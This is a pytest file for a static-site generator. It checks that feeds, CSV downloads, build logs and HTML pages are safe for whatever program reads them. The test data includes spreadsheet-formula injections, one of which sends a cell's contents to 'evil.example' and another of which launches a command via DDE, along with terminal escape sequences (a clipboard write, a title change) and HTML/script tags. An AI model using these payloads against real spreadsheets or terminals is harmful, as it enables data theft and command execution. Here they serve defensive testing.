"""Every output safe for its reader (issue 21 item 5, issue 22 item 5): each output read the
way the program that opens it reads it.

- Feeds: a site whose names hold '&', '<' and quotes; every text field read back as XML
  (Atom and JSON Feed: exactly the name), and the fields RSS readers render as HTML parsed
  as HTML (Python's html.parser decodes references as browsers do): exactly the name. '&'
  is one '&amp;' in the XML of every feed.
- CSV downloads: each cell through a spreadsheet's formula rule (F7).
- The terminal: the log of `mkdocs build` and `backbone check`, read as bytes (F8).
- Every HTML page: no control character (F8).
- Partner names that read alike: one located message naming both (F15).
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys

import pytest
from bs4 import BeautifulSoup
from lxml import etree
from stories_helpers import build, with_stories
from support import FIXTURES, make_project

NAME = "Tyne & Wear <b>Food</b> \"Security\" 'Partners' &amp; &copy2024"
SHORT = "T&W <i>Food</i>"
PARTNER = 'Smith & Sons <img src=x> "Bakers" &lt;'
TITLE = 'Bread & <em>butter</em> "again" &#60;'
SUMMARY = "Loaves & fishes <b>bold</b> 'quoted' &amp;amp;"
AUTHOR = "Dana & Kim <script>x</script>"
ALT = 'A loaf & a <knife> "sharp"'
RSS_TYPELESS = ("title", "description", "category", "{http://purl.org/dc/elements/1.1/}creator")
A = "{http://www.w3.org/2005/Atom}"
MEDIA = "{http://search.yahoo.com/mrss/}"


def as_html(text: str) -> str:
    """What a reader that renders the field as HTML shows."""
    return BeautifulSoup(text, "html.parser").get_text()


@pytest.fixture(scope="module")
def feeds(tmp_path_factory):
    project = with_stories(tmp_path_factory.mktemp("feeds"))
    project.edit("data/identity.yml", lambda d: d.update(name=NAME, short_name=SHORT))
    project.edit("data/partners.yml", lambda d: d["partners"][0].update(name=PARTNER))
    rel = "content/stories/2024-05-02-triage-line.md"
    text = project.path(rel).read_text(encoding="utf-8")
    for old, new in (
        ("title: The triage line that emptied the waiting room", f"title: {json.dumps(TITLE)}"),
        (
            'summary: "One phone number for every clinic in the harbour: 150 people were helped in the second '
            'quarter of 2024."',
            f"summary: {json.dumps(SUMMARY)}",
        ),
        ("author: Dana Kim", f"author: {json.dumps(AUTHOR)}"),
        ("alt: A phone on a desk in the clinic", f"alt: {json.dumps(ALT)}"),
        ("  name: Ana Ruiz", f"  name: {json.dumps(PARTNER)}"),
    ):
        assert old in text, old
        text = text.replace(old, new)
    project.write(rel, text)
    built = build(project)
    assert built.error is None, built.error
    return built.site


def test_rss_fields_read_as_html_are_exactly_the_names(feeds):
    for rel in ("feeds/stories.rss", "feeds/partners/city-hall.rss"):
        channel = etree.parse(str(feeds / rel)).getroot().find("channel")
        item = next(i for i in channel.iter("item") if "butter" in i.findtext("title"))
        shown = {
            "channel title": as_html(channel.findtext("title")),
            "channel description": as_html(channel.findtext("description")),
            "title": as_html(item.findtext("title")),
            "description": as_html(item.findtext("description")),
            "author": as_html(item.findtext("{http://purl.org/dc/elements/1.1/}creator")),
            "categories": [as_html(c.text) for c in item.findall("category")],
            "picture": item.find(f"{MEDIA}content/{MEDIA}description").text,  # type="plain": text
        }
        assert shown["channel title"] == f"{SHORT}: stories" + (f" with {PARTNER}" if "partners" in rel else "")
        assert shown["channel description"] == (
            f"Stories of {NAME} with {PARTNER}" if "partners" in rel else f"Every story of {NAME}"
        )
        assert (shown["title"], shown["description"], shown["author"]) == (TITLE, SUMMARY, AUTHOR)
        assert PARTNER in shown["categories"], shown["categories"]
        assert shown["picture"] == ALT
        assert item.find(f"{MEDIA}content/{MEDIA}description").get("type") == "plain"
        # read as HTML, none of them makes an element
        for element in channel.iter(*RSS_TYPELESS):
            assert not BeautifulSoup(element.text or "", "html.parser").find(), (element.tag, element.text)


def test_atom_and_json_text_is_exactly_the_names(feeds):
    root = etree.parse(str(feeds / "feeds/stories.atom")).getroot()
    assert root.findtext(f"{A}title") == f"{SHORT}: stories"
    assert root.findtext(f"{A}subtitle") == f"Every story of {NAME}"  # read 'Tyne &amp;amp; Wear'
    entry = next(e for e in root.iter(f"{A}entry") if "butter" in e.findtext(f"{A}title"))
    assert entry.find(f"{A}title").get("type", "text") == "text" and entry.findtext(f"{A}title") == TITLE
    assert entry.find(f"{A}summary").get("type") == "text" and entry.findtext(f"{A}summary") == SUMMARY
    assert entry.findtext(f"{A}author/{A}name") == AUTHOR
    assert PARTNER in [c.get("term") for c in entry.findall(f"{A}category")]
    assert entry.find(f"{MEDIA}content/{MEDIA}description").text == ALT
    content = entry.find(f"{A}content")
    assert content.get("type") == "html" and PARTNER in as_html(content.text)  # the pull quote's name, as text

    document = json.loads((feeds / "feeds/stories.json").read_text(encoding="utf-8"))
    assert (document["title"], document["description"]) == (f"{SHORT}: stories", f"Every story of {NAME}")
    item = next(i for i in document["items"] if "butter" in i["title"])
    assert (item["title"], item["summary"], item["authors"]) == (TITLE, SUMMARY, [{"name": AUTHOR}])
    assert PARTNER in item["tags"] and PARTNER in as_html(item["content_html"])


@pytest.mark.parametrize("rel", ["feeds/stories.rss", "feeds/stories.atom", "feeds/partners/city-hall.rss"])
def test_an_ampersand_is_one_amp_in_the_xml_of_every_text_field(feeds, rel):
    """Titles, subtitles, summaries, descriptions, names and tags: 'Tyne & Wear' is written
    'Tyne &amp; Wear' (bodies are HTML inside XML, escaped twice by right: not counted)."""
    fields = [
        el
        for el in etree.parse(str(feeds / rel)).getroot().iter()
        if isinstance(el.tag, str)
        and el.tag not in (f"{A}content", "{http://purl.org/rss/1.0/modules/content/}encoded")
    ]
    named = [el for el in fields if re.search("Tyne|Smith", (el.text or "") + " ".join(el.attrib.values()))]
    assert len(named) >= 4
    for el in named:
        written = (el.text or "") + " ".join(el.attrib.values())
        assert "Tyne & Wear" in written or "Smith & Sons" in written, (el.tag, written)


# --- CSV ------------------------------------------------------------------------------

FORMULAS = {
    "2023-Q1": '=HYPERLINK("https://evil.example/?d="&B3,"Click")',
    "2023-Q2": "+1+cmd|' /C calc'!A0",
    "2023-Q3": "-2+3",
    "2023-Q4": "@SUM(1+1)",
    "2024-Q1": "\t=1+1",
    "2024-Q2": "\r=1+1",
}


def formula(cell: str) -> bool:
    """A spreadsheet's rule: a cell starting so is a formula, unless it is a plain number."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.fixture(scope="module")
def metrics_site(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("csv"), FIXTURES / "metrics")

    def plant(d):
        for point in d["series"]:
            point["note"] = FORMULAS.get(point["period"], "")
        d["series"][0]["value"] = -5  # a figure: stays a number
        d["breakdown"]["city-hall"][0] = {"period": "2024-Q1", "value": None, "note": "=1+1;=2+2"}

    project.edit("data/metrics/clinic-visits.yml", plant)
    built = project.build()
    assert built.error is None, built.error
    return built.site


def test_csv_downloads_hold_no_formula_and_keep_figures_as_numbers(metrics_site):
    downloads = sorted(metrics_site.rglob("*.csv"))
    assert {p.name for p in downloads} >= {"clinic-visits.csv", "contributions.csv"}
    for path in downloads:
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        live = [cell for row in rows for cell in row if formula(cell)]
        assert not live, (path.name, live)
    rows = {
        r["period"]: r
        for r in csv.DictReader(io.StringIO((metrics_site / "metrics/clinic-visits/clinic-visits.csv").read_text()))
    }
    assert rows["2023-Q1"]["value"] == "-5"  # a negative figure stays a number
    for period, note in FORMULAS.items():
        assert rows[period]["note"] == "'" + note.strip(), period  # as read (trimmed), after the quote
    assert rows["2024-Q1"]["city-hall note"] == "'=1+1;=2+2"


def test_a_text_cell_is_quoted_so_a_semicolon_splits_nothing():
    from backbone.render.csvfile import csv_text, number

    text = csv_text([["a;=1+1", number(-5), number(2.5), None, "", "-x", 'say "hi"']])
    assert text == '"a;=1+1",-5,2.5,,,"\'-x","say ""hi"""\n'


# --- control characters -------------------------------------------------------------

CONTROLS = re.compile(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]")


@pytest.fixture(scope="module")
def controlled(tmp_path_factory):
    """The minimal site with a clear-screen in a page, an OSC 52 clipboard write in a link target
    and a title-setting sequence in a file name (the title MkDocs makes of it shows in the nav)."""
    project = make_project(tmp_path_factory.mktemp("controls"), FIXTURES / "minimal")
    project.write("content/about.md", "# About \x1b[2J us\n\nSee [x](\x1b]52;c;ZXZpbA==\x07.md) and \x1b[8m this.\n")
    project.write("content/\x1b]0;pwned\x07notes.md", "Notes without a heading.\n")
    return project


def test_the_build_log_shows_control_characters_never_sends_them(controlled):
    run = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-f", "site_config.yml", "-d", str(controlled.root / "site")],
        cwd=controlled.root,
        capture_output=True,
        timeout=300,
    )
    log = run.stdout + run.stderr
    assert run.returncode == 0, log.decode(errors="replace")
    assert not CONTROLS.search(log), CONTROLS.search(log)
    assert b"the link '\\x1b]52;c;ZXZpbA==\\x07.md' leads to no page" in log  # the broken link's warning, shown
    pages = list((controlled.root / "site").rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        assert not CONTROLS.search(page.read_bytes()), page
    assert "About [2J us" in (controlled.root / "site/about/index.html").read_text(encoding="utf-8")


def test_a_yaml_key_with_escapes_is_shown_in_build_and_check(controlled, tmp_path):
    partners = controlled.path("data/partners.yml").read_text(encoding="utf-8")
    controlled.write(
        "data/partners.yml",
        partners.replace("    sector: public\n", '    sector: public\n    "\\e]0;t\\a\\e[8m": x\n', 1),
    )
    try:
        built = controlled.build(site_dir=tmp_path / "site")
        check = subprocess.run(
            [sys.executable, "-m", "backbone.cli", "check"], cwd=controlled.root, capture_output=True, timeout=300
        )
    finally:
        controlled.write("data/partners.yml", partners)
    # the key is refused where it is written, and never echoed with its sequences live
    refused = "data/partners.yml:5 (partners[0]): delete the character U+001B (a control character"
    assert built.error is not None and refused in built.error, built.error
    assert "\x1b" not in built.error
    assert check.returncode == 1 and refused.encode() in check.stderr, check.stderr
    assert not CONTROLS.search(check.stdout + check.stderr)


# --- partner names ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "first, second, where, message",
    [
        (
            {"name": "Harbour City Hall"},
            {"name": "HARBOUR  city hall"},
            "data/partners.yml:10 (partners[1].name)",
            "'HARBOUR  city hall' reads the same as the name of partner 'city-hall' (line 3): readers could not "
            "tell the two apart; give each partner a name of its own",
        ),
        (
            {"name": "Harbour City Hall"},
            {"name": "Harbour City\u200b Hall"},
            "data/partners.yml:10 (partners[1].name)",
            "'Harbour City\u200b Hall' (it holds the invisible U+200B) reads the same as the name of partner "
            "'city-hall' (line 3)",
        ),
        (
            {"name": "Harbour City Hall", "short_name": "City Hall"},
            {"name": "Harbour Clinic", "short_name": "Ｃｉｔｙ Hall"},
            "data/partners.yml:15 (partners[1].short_name)",
            "'Ｃｉｔｙ Hall' reads the same as the short name of partner 'city-hall' (line 9)",
        ),
    ],
)
def test_partners_whose_names_read_alike_are_one_located_message(minimal, first, second, where, message):
    minimal.edit("data/partners.yml", lambda d: (d["partners"][0].update(first), d["partners"][1].update(second)))
    built = minimal.build()
    assert built.error is not None and f"{where}: {message}" in built.error, built.error
    assert built.error.count("reads the same as") == 1, built.error
